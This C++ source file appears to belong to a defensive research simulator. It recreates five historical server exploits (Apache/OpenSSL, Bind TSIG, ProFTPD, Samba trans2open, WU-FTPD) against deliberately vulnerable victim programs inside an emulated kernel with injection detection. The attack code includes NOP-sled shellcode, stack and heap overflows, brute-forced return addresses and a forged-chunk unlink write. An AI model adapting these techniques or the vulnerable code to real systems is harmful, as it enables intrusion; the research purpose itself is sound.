#include "attacks/realworld.h"

#include <algorithm>
#include <memory>
#include <stdexcept>

#include "attacks/shellcode.h"
#include "core/sebek.h"
#include "guest/guestlib.h"
#include "image/image.h"
#include "kernel/kernel.h"

namespace sm::attacks::realworld {

namespace {

using arch::u8;
using core::ProtectionMode;
using core::ResponseMode;
using kernel::Kernel;
using kernel::Pid;

// Chunk geometry of the guest allocator: payload-to-payload distance for
// consecutive allocations, and the offset of the next chunk's header.
constexpr u32 chunk_span(u32 payload) { return (payload + 19) & ~7u; }
static_assert(chunk_span(48) == 64);
static_assert(chunk_span(128) == 144);
static_assert(chunk_span(256) == 272);
static_assert(chunk_span(512) == 528);

struct Session {
  std::unique_ptr<Kernel> k;
  Pid pid = 0;
  std::shared_ptr<kernel::Channel> chan;
  std::unique_ptr<core::SebekLogger> sebek;
};

Session boot(const std::string& source, ProtectionMode mode,
             const AttackOptions& opts, u32 rng_seed = 0x5eed,
             bool stack_randomization = false) {
  Session s;
  kernel::KernelConfig cfg;
  cfg.rng_seed = rng_seed;
  cfg.stack_randomization = stack_randomization;
  s.k = std::make_unique<Kernel>(cfg);
  s.k->set_engine(core::make_engine(mode, opts.response));
  if (opts.attach_sebek) {
    s.sebek = std::make_unique<core::SebekLogger>();
    s.sebek->attach(*s.k);
  }
  const auto program = assembler::assemble(guest::program(source));
  image::BuildOptions bopts;
  bopts.name = "victim";
  s.k->register_image(image::build_image(program, bopts));
  s.pid = s.k->spawn("victim");
  s.chan = s.k->attach_channel(s.pid);
  return s;
}

// Extracts the next "0x%08x" leak from accumulated channel output.
u32 take_leak(std::string& buf, const Session& s) {
  buf += s.chan->host_read_string();
  const auto pos = buf.find("0x");
  if (pos == std::string::npos || buf.size() < pos + 10) {
    throw std::runtime_error("victim leak not found in: " + buf);
  }
  const u32 value =
      static_cast<u32>(std::stoul(buf.substr(pos + 2, 8), nullptr, 16));
  buf.erase(0, pos + 10);
  return value;
}

void append_le32(std::string& out, u32 v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<char>(v >> (8 * i)));
}

void finish(AttackResult& res, Session& s, const AttackOptions& opts) {
  kernel::Process& p = *s.k->process(s.pid);
  res.shell_spawned = p.shell_spawned;
  res.detected = !s.k->detections().empty();
  res.victim_exit = p.exit_kind;
  if (!s.k->detections().empty()) {
    res.forensic_dump = s.k->detections()[0].disassembly;
  }
  if (res.shell_spawned && !opts.shell_commands.empty()) {
    for (const std::string& cmd : opts.shell_commands) {
      s.chan->host_write(cmd + "\n");
      s.k->run(5'000'000);
      res.shell_transcript += s.chan->host_read_string();
    }
  }
  if (s.sebek) res.sebek_log = s.sebek->dump();
  if (res.shell_spawned) {
    res.detail = "shell spawned (uid=0)";
  } else if (res.detected) {
    res.detail = "injected code prevented from executing";
  } else {
    res.detail = "attack failed";
  }
}

// ---------------------------------------------------------------------------
// 1. Apache + OpenSSL: heap overflow into a session handler pointer.
// ---------------------------------------------------------------------------

const char* kApacheSource = R"(
_start:
  call malloc_init
  ; connection state, allocated in handshake order: the client-hello
  ; buffer, the master-key buffer, then the session struct whose first
  ; field is the completion handler.
  movi r1, 1024
  call malloc
  movi r4, reqbuf_ptr
  store [r4], r0
  movi r1, 48
  call malloc
  movi r4, keybuf_ptr
  store [r4], r0
  movi r1, 16
  call malloc
  movi r4, sess_ptr
  store [r4], r0
  movi r2, benign_handler
  store [r0], r2
  ; read the client hello (attacker-supplied blob, kept for the session)
  movi r1, FD_NET
  movi r4, reqbuf_ptr
  load r2, [r4]
  movi r3, 1024
  call read_n
  ; SERVER-HELLO: the info-leak — the "session id" exposes a heap pointer
  movi r1, FD_NET
  movi r2, msg_hello
  call print_fd
  movi r1, FD_NET
  movi r4, reqbuf_ptr
  load r2, [r4]
  call put_hex_fd
  ; CLIENT-MASTER-KEY: "a very large client master key" overflows keybuf
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  movi r4, keybuf_ptr
  load r1, [r4]
  movi r2, staging
  call strcpy              ; heap overflow into sess->handler
  ; finish the handshake through the session handler
  movi r4, sess_ptr
  load r4, [r4]
  load r2, [r4]
  callr r2
  movi r1, FD_NET
  movi r2, msg_done
  call print_fd
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
benign_handler:
  ret
.data
msg_hello: .asciz "SSL-SERVER-HELLO session="
msg_done:  .asciz "handshake complete\n"
reqbuf_ptr: .word 0
keybuf_ptr: .word 0
sess_ptr:   .word 0
staging: .space 640
)";

AttackResult attack_apache(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kApacheOpenSsl;
  Session s = boot(kApacheSource, mode, opts);

  // Client hello: NOP sled + shellcode, like the recorded openssl-too-open
  // handshake blob.
  std::vector<u8> hello(1024, 0);
  ShellcodeBuilder sc;
  sc.nop_sled(600).raw(spawn_shell_shellcode());
  const auto blob = sc.build();
  std::copy(blob.begin(), blob.end(), hello.begin());
  s.chan->host_write(hello);
  s.k->run(10'000'000);

  std::string net;
  const u32 reqbuf = take_leak(net, s);
  res.vulnerability_triggered = true;

  // Master key: filler to the handler pointer, then the sled address.
  const u32 target = pick_string_safe_address(reqbuf, 592);
  std::string key(chunk_span(48), 'A');
  append_le32(key, target);
  key += "\n";
  s.chan->host_write(key);
  s.k->run(20'000'000);

  finish(res, s, opts);
  return res;
}

// ---------------------------------------------------------------------------
// 2. Bind TSIG: stack overflow with an information-leak reply.
// ---------------------------------------------------------------------------

const char* kBindSource = R"(
_start:
  call handle_query
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
handle_query:
  push fp
  mov fp, sp
  movi r2, 1104
  sub sp, r2
  ; qbuf at fp-1104 (1024 bytes), the TSIG scratch buffer at fp-76
  ; read the DNS query (binary) onto the stack
  movi r1, FD_NET
  mov r2, fp
  movi r3, 1104
  sub r2, r3
  movi r3, 1024
  call read_n
  ; the leak: a malformed-query error reply carries a stack address
  movi r1, FD_NET
  movi r2, msg_fmterr
  call print_fd
  movi r1, FD_NET
  mov r2, fp
  movi r3, 1104
  sub r2, r3
  call put_hex_fd
  ; parse the transaction signature into a fixed stack buffer
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  mov r1, fp
  movi r2, 76
  sub r1, r2
  movi r2, staging
  call strcpy            ; smashes the saved fp and return address
  mov sp, fp
  pop fp
  ret
.data
msg_fmterr: .asciz "FORMERR id="
staging: .space 640
)";

AttackResult attack_bind(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kBindTsig;
  Session s = boot(kBindSource, mode, opts);

  std::vector<u8> query(1024, 0);
  ShellcodeBuilder sc;
  sc.nop_sled(600).raw(spawn_shell_shellcode());
  const auto blob = sc.build();
  std::copy(blob.begin(), blob.end(), query.begin());
  s.chan->host_write(query);
  s.k->run(10'000'000);

  std::string net;
  const u32 qbuf = take_leak(net, s);
  res.vulnerability_triggered = true;

  const u32 target = pick_string_safe_address(qbuf, 592);
  std::string tsig(80, 'A');  // 72-byte frame + saved fp + return address
  append_le32(tsig, target);
  tsig += "\n";
  s.chan->host_write(tsig);
  s.k->run(20'000'000);

  finish(res, s, opts);
  return res;
}

// ---------------------------------------------------------------------------
// 3. ProFTPD: ASCII-mode newline translation overflows the transfer buffer.
// ---------------------------------------------------------------------------

const char* kProftpdSource = R"(
_start:
  call malloc_init
  movi r1, 1024
  call malloc
  movi r4, filebuf_ptr
  store [r4], r0
  movi r1, 256
  call malloc
  movi r4, xferbuf_ptr
  store [r4], r0
  movi r1, 16
  call malloc
  movi r4, sess_ptr
  store [r4], r0
  movi r2, benign_cb
  store [r0], r2
  movi r1, FD_NET
  movi r2, msg_banner
  call print_fd
cmd_loop:
  movi r1, FD_NET
  movi r2, cmdbuf
  movi r3, 128
  call read_line
  cmpi r0, 0
  jz do_quit
  movi r4, cmdbuf
  loadb r5, [r4]
  cmpi r5, 'U'
  jz do_user
  cmpi r5, 'T'
  jz do_type
  cmpi r5, 'S'
  jz do_stor
  cmpi r5, 'R'
  jz do_retr
  cmpi r5, 'Q'
  jz do_quit
  movi r1, FD_NET
  movi r2, msg_500
  call print_fd
  jmp cmd_loop
do_user:
  movi r1, FD_NET
  movi r2, msg_230
  call print_fd
  jmp cmd_loop
do_type:
  movi r4, ascii_mode
  movi r5, 1
  store [r4], r5
  movi r1, FD_NET
  movi r2, msg_200
  call print_fd
  jmp cmd_loop
do_stor:
  ; upload a 256-byte file into the file cache
  movi r1, FD_NET
  movi r4, filebuf_ptr
  load r2, [r4]
  movi r3, 256
  call read_n
  movi r1, FD_NET
  movi r2, msg_226s
  call print_fd
  movi r1, FD_NET
  movi r4, filebuf_ptr
  load r2, [r4]
  call put_hex_fd
  jmp cmd_loop
do_retr:
  movi r4, filebuf_ptr
  load r1, [r4]          ; src
  movi r4, xferbuf_ptr
  load r2, [r4]          ; dst
  movi r3, 256
  movi r4, ascii_mode
  load r4, [r4]
  cmpi r4, 1
  jz retr_ascii
  ; binary mode: bounded copy (memcpy(dst, src, 256))
  mov r5, r1
  mov r1, r2
  mov r2, r5
  call memcpy
  jmp retr_done
retr_ascii:
  ; THE BUG: \n -> \r\n expansion with no bounds check on the output.
ascii_loop:
  cmpi r3, 0
  jz retr_done
  loadb r5, [r1]
  cmpi r5, 10
  jnz ascii_plain
  movi r5, 13
  storeb [r2], r5
  addi r2, 1
  movi r5, 10
ascii_plain:
  storeb [r2], r5
  addi r1, 1
  addi r2, 1
  addi r3, -1
  jmp ascii_loop
retr_done:
  movi r1, FD_NET
  movi r2, msg_226
  call print_fd
  ; post-transfer hook through the session callback
  movi r4, sess_ptr
  load r4, [r4]
  load r2, [r4]
  callr r2
  jmp cmd_loop
do_quit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall
benign_cb:
  ret
.data
msg_banner: .asciz "220 ProFTPD 1.2.7 Server ready.\n"
msg_230: .asciz "230 Anonymous access granted.\n"
msg_200: .asciz "200 Type set to A.\n"
msg_226s: .asciz "226 Transfer complete (stored). id="
msg_226: .asciz "226 Transfer complete.\n"
msg_500: .asciz "500 Command not understood.\n"
filebuf_ptr: .word 0
xferbuf_ptr: .word 0
sess_ptr: .word 0
ascii_mode: .word 0
cmdbuf: .space 132
)";

AttackResult attack_proftpd(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kProftpd;
  Session s = boot(kProftpdSource, mode, opts);
  s.k->run(5'000'000);
  s.chan->host_read_string();  // banner

  s.chan->host_write(std::string("USER anonymous\n"));
  s.k->run(5'000'000);

  // The uploaded "file": 20 newlines (each grows by one byte during ASCII
  // translation), shellcode + sled in the middle, the callback target last.
  // Translated length 276 puts the last 4 bytes exactly over the session
  // callback at xferbuf + 272.
  std::vector<u8> file;
  file.insert(file.end(), 20, '\n');
  ShellcodeBuilder sc;
  const auto payload = spawn_shell_shellcode();
  sc.nop_sled(232 - payload.size()).raw(payload);
  const auto mid = sc.build();
  file.insert(file.end(), mid.begin(), mid.end());
  // Placeholder target until we learn the file buffer address.
  file.insert(file.end(), 4, 0);

  s.chan->host_write(std::string("STOR exploit.txt\n"));
  s.chan->host_write(std::span<const u8>(file.data(), file.size()));
  s.k->run(10'000'000);
  std::string net;
  const u32 filebuf = take_leak(net, s);
  res.vulnerability_triggered = true;

  // Re-upload with the real target (points into the sled, which starts at
  // file offset 20). The target travels as binary file data, so only the
  // ASCII-translation bytes (\n, \r) must be avoided.
  const u32 target = pick_ascii_safe_address(filebuf + 24, 160);
  for (int i = 0; i < 4; ++i) {
    file[252 + i] = static_cast<u8>(target >> (8 * i));
  }
  s.chan->host_write(std::string("STOR exploit.txt\n"));
  s.chan->host_write(std::span<const u8>(file.data(), file.size()));
  s.k->run(10'000'000);
  s.chan->host_read_string();

  s.chan->host_write(std::string("TYPE A\n"));
  s.k->run(5'000'000);
  s.chan->host_write(std::string("RETR exploit.txt\n"));
  s.k->run(20'000'000);

  finish(res, s, opts);
  return res;
}

// ---------------------------------------------------------------------------
// 4. Samba call_trans2open: brute-forced stack overflow vs randomization.
// ---------------------------------------------------------------------------

std::string samba_source(bool leak_for_calibration) {
  std::string src = R"(
_start:
  call handle_trans2
  movi r0, SYS_EXIT
  movi r1, 1
  syscall
handle_trans2:
  push fp
  mov fp, sp
  movi r2, 2128
  sub sp, r2
  ; the request data lands on the stack: qbuf at fp-2128 (2048 bytes)
  movi r1, FD_NET
  mov r2, fp
  movi r3, 2128
  sub r2, r3
  movi r3, 2048
  call read_n
)";
  if (leak_for_calibration) {
    src += R"(
  ; calibration build only: "manual analysis of a similar vulnerable
  ; system" (paper §6.1.2) — expose the buffer address
  movi r1, FD_NET
  mov r2, fp
  movi r3, 2128
  sub r2, r3
  call put_hex_fd
)";
  }
  src += R"(
  ; the trans2open parameter block is copied into a fixed stack buffer
  movi r1, FD_NET
  movi r2, staging
  movi r3, 600
  call read_line
  mov r1, fp
  movi r2, 76
  sub r1, r2
  movi r2, staging
  call strcpy
  mov sp, fp
  pop fp
  ret
.data
staging: .space 640
)";
  return src;
}

AttackResult attack_samba(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kSamba;

  // Calibration pass on a "similar system" without randomization.
  u32 base = 0;
  {
    AttackOptions calib_opts;
    Session c = boot(samba_source(true), ProtectionMode::kNone, calib_opts,
                     /*rng_seed=*/1, /*stack_randomization=*/false);
    c.chan->host_write(std::vector<u8>(2048, 0x90));
    c.k->run(10'000'000);
    std::string net;
    base = take_leak(net, c);
  }

  constexpr u32 kSled = 1900;
  std::vector<u8> request(2048, 0);
  ShellcodeBuilder sc;
  sc.nop_sled(kSled).raw(spawn_shell_shellcode());
  const auto blob = sc.build();
  std::copy(blob.begin(), blob.end(), request.begin());

  for (int attempt = 1; attempt <= opts.max_attempts; ++attempt) {
    res.attempts = attempt;
    Session s = boot(samba_source(false), mode, opts,
                     /*rng_seed=*/0x5eed + attempt * 7919,
                     /*stack_randomization=*/true);
    s.chan->host_write(request);
    s.k->run(5'000'000);
    res.vulnerability_triggered = true;

    // Guess grid: randomization subtracts up to 8 KiB from the calibrated
    // base, so walk guesses downward in sled-sized steps.
    const u32 step = 1800;
    const u32 raw_guess = base - ((attempt - 1) % 5) * step + 64;
    const u32 guess = pick_string_safe_address(raw_guess, 64);

    std::string overflow(80, 'A');
    append_le32(overflow, guess);
    overflow += "\n";
    s.chan->host_write(overflow);
    s.k->run(20'000'000);

    kernel::Process& p = *s.k->process(s.pid);
    if (p.shell_spawned || !s.k->detections().empty()) {
      finish(res, s, opts);
      return res;
    }
    // Wrong guess: the daemon crashed; "respawn" and try again.
  }
  res.detail = "brute force exhausted";
  res.victim_exit = kernel::ExitKind::kKilledSigsegv;
  return res;
}

// ---------------------------------------------------------------------------
// 5. WU-FTPD: free() of a corrupted chunk -> unlink write-what-where,
//    with two-stage shellcode.
// ---------------------------------------------------------------------------

const char* kWuftpdSource = R"(
_start:
  call malloc_init
  movi r1, FD_NET
  movi r2, msg_banner
  call print_fd
wu_loop:
  movi r1, FD_NET
  movi r2, cmdbuf
  movi r3, 128
  call read_line
  cmpi r0, 0
  jz wu_quit
  movi r4, cmdbuf
  loadb r5, [r4]
  cmpi r5, 'U'
  jz wu_user
  cmpi r5, 'P'
  jz wu_pass
  cmpi r5, 'C'
  jz wu_glob
  cmpi r5, 'Q'
  jz wu_quit
  movi r1, FD_NET
  movi r2, msg_500
  call print_fd
  jmp wu_loop
wu_user:
  movi r1, FD_NET
  movi r2, msg_331
  call print_fd
  jmp wu_loop
wu_pass:
  movi r1, FD_NET
  movi r2, msg_230
  call print_fd
  jmp wu_loop
wu_glob:
  call handle_glob
  jmp wu_loop
wu_quit:
  movi r0, SYS_EXIT
  movi r1, 0
  syscall

; CWD ~{...} — filename globbing with attacker-controlled heap chunks.
handle_glob:
  push fp
  mov fp, sp
  movi r1, 512
  call malloc
  movi r4, pattern_ptr
  store [r4], r0
  movi r1, 128
  call malloc
  movi r4, tmp_ptr
  store [r4], r0
  ; more per-session state sits right after tmp - its chunk header is what
  ; the overflow forges into a fake "free" chunk
  movi r1, 64
  call malloc
  ; 7350wurm knew the daemon's heap/stack layout per distribution build;
  ; these replies stand in for its hardcoded offsets.
  movi r1, FD_NET
  movi r4, pattern_ptr
  load r2, [r4]
  call put_hex_fd
  movi r1, FD_NET
  mov r2, fp
  call put_hex_fd
  ; the glob pattern (binary-tolerant FTP argument)
  movi r1, FD_NET
  movi r4, pattern_ptr
  load r2, [r4]
  movi r3, 512
  call read_n
  ; THE BUG: 160 bytes of parsed pattern state into a 128-byte chunk
  movi r1, FD_NET
  movi r2, staging
  movi r3, 160
  call read_n
  movi r4, tmp_ptr
  load r1, [r4]
  movi r2, staging
  movi r3, 160
  call memcpy
  ; free the attacker-controlled memory: unlink() fires
  movi r4, tmp_ptr
  load r1, [r4]
  call free
  movi r1, FD_NET
  movi r2, msg_250
  call print_fd
  mov sp, fp
  pop fp
  ret                    ; return address was redirected by unlink()

.data
msg_banner: .asciz "220 wu-ftpd 2.6.1 FTP server ready.\n"
msg_331: .asciz "331 Password required.\n"
msg_230: .asciz "230 User logged in.\n"
msg_250: .asciz "250 CWD command successful.\n"
msg_500: .asciz "500 Unknown command.\n"
pattern_ptr: .word 0
tmp_ptr: .word 0
staging: .space 192
cmdbuf: .space 132
)";

AttackResult attack_wuftpd(ProtectionMode mode, const AttackOptions& opts) {
  AttackResult res;
  res.exploit = Exploit::kWuFtpd;
  Session s = boot(kWuftpdSource, mode, opts);
  s.k->run(5'000'000);
  s.chan->host_read_string();

  s.chan->host_write(std::string("USER ftp\n"));
  s.k->run(5'000'000);
  s.chan->host_write(std::string("PASS mozilla@\n"));
  s.k->run(5'000'000);
  s.chan->host_read_string();

  s.chan->host_write(std::string("CWD ~{\n"));
  s.k->run(5'000'000);
  std::string net;
  const u32 pattern = take_leak(net, s);
  const u32 glob_fp = take_leak(net, s);
  res.vulnerability_triggered = true;

  // Stage 1 at the start of the pattern buffer (the glob argument is read
  // with a binary-tolerant read, so its address has no byte constraints).
  // The layout absorbs unlink's reciprocal write (*(fd+8) = bk) in a CMPI
  // immediate: [6x nop][cmpi r0, <clobbered by bk>][stage-1 payload]
  const u32 sc_addr = pattern;
  const u32 sc_off = 0;
  const u32 stage2_addr = pattern + 256;
  const u32 marker_addr = pattern + 504;

  ShellcodeBuilder stage1;
  stage1.nop_sled(6).cmpi(0, 0);
  // Signal the attacker with the 4-byte marker, then pull stage 2.
  stage1.movi(0, kernel::kSysWrite)
      .movi(1, kernel::kFdNet)
      .movi(2, marker_addr)
      .movi(3, 4)
      .syscall();
  stage1.movi(0, kernel::kSysRead)
      .movi(1, kernel::kFdNet)
      .movi(2, stage2_addr)
      .movi(3, 512)
      .syscall();
  stage1.movi(5, stage2_addr).jmpr(5);

  std::vector<u8> glob_pattern(512, 0x90);
  const auto s1 = stage1.build();
  std::copy(s1.begin(), s1.end(), glob_pattern.begin() + sc_off);
  const char marker[4] = {'w', '0', '0', 't'};
  std::copy(marker, marker + 4, glob_pattern.begin() + (marker_addr - pattern));
  s.chan->host_write(glob_pattern);

  // The overflow: filler to the next-chunk header, then the fake header
  // [size][fd][bk]. free(tmp) unlinks the fake chunk:
  //   *(fd+8) = bk  -> clobbers the CMPI immediate inside stage 1
  //   *(bk+4) = fd  -> writes &stage1 over handle_glob's return address
  const u32 retslot = glob_fp + 4;
  std::string overflow(132, 'B');
  append_le32(overflow, 0x41414140);  // fake size: even => "free"
  append_le32(overflow, sc_addr);     // fd
  append_le32(overflow, retslot - 4); // bk
  overflow.resize(160, 'C');
  s.chan->host_write(
      std::span<const u8>(reinterpret_cast<const u8*>(overflow.data()),
                          overflow.size()));
  s.k->run(20'000'000);

  // Stage 1 signals with the marker, then blocks waiting for stage 2.
  const std::string sig = s.chan->host_read_string();
  if (sig.find("w00t") != std::string::npos) {
    const auto stage2 = interactive_shell_shellcode(pattern + 768,
                                                    /*rounds=*/8);
    std::vector<u8> padded(512, 0x90);
    if (stage2.size() > padded.size()) {
      throw std::logic_error("stage 2 exceeds the read window");
    }
    std::copy(stage2.begin(), stage2.end(), padded.begin());
    s.chan->host_write(padded);
    s.k->run(20'000'000);
  }

  finish(res, s, opts);
  return res;
}

}  // namespace

const char* to_string(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return "apache-openssl";
    case Exploit::kBindTsig:
      return "bind-tsig";
    case Exploit::kProftpd:
      return "proftpd";
    case Exploit::kSamba:
      return "samba";
    case Exploit::kWuFtpd:
      return "wu-ftpd";
  }
  return "?";
}

const char* software(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return "Apache 1.3.20 + OpenSSL 0.9.6d";
    case Exploit::kBindTsig:
      return "Bind 8.2.2_P5";
    case Exploit::kProftpd:
      return "ProFTPD 1.2.7";
    case Exploit::kSamba:
      return "Samba 2.2.1a";
    case Exploit::kWuFtpd:
      return "WU-FTPD 2.6.1";
  }
  return "?";
}

const char* exploit_name(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return "openssl-too-open (Solar Eclipse)";
    case Exploit::kBindTsig:
      return "lsd-pl.net tsig (Lion worm)";
    case Exploit::kProftpd:
      return "proftpd-not-pro-enough (Solar Eclipse)";
    case Exploit::kSamba:
      return "trans2open (eSDee)";
    case Exploit::kWuFtpd:
      return "7350wurm (TESO)";
  }
  return "?";
}

const char* injects_to(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
    case Exploit::kProftpd:
    case Exploit::kWuFtpd:
      return "heap";
    case Exploit::kBindTsig:
    case Exploit::kSamba:
      return "stack";
  }
  return "?";
}

std::string victim_source(Exploit e) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return kApacheSource;
    case Exploit::kBindTsig:
      return kBindSource;
    case Exploit::kProftpd:
      return kProftpdSource;
    case Exploit::kSamba:
      return samba_source(false);
    case Exploit::kWuFtpd:
      return kWuftpdSource;
  }
  return "";
}

AttackResult run_attack(Exploit e, core::ProtectionMode mode,
                        const AttackOptions& opts) {
  switch (e) {
    case Exploit::kApacheOpenSsl:
      return attack_apache(mode, opts);
    case Exploit::kBindTsig:
      return attack_bind(mode, opts);
    case Exploit::kProftpd:
      return attack_proftpd(mode, opts);
    case Exploit::kSamba:
      return attack_samba(mode, opts);
    case Exploit::kWuFtpd:
      return attack_wuftpd(mode, opts);
  }
  throw std::invalid_argument("unknown exploit");
}

}  // namespace sm::attacks::realworld
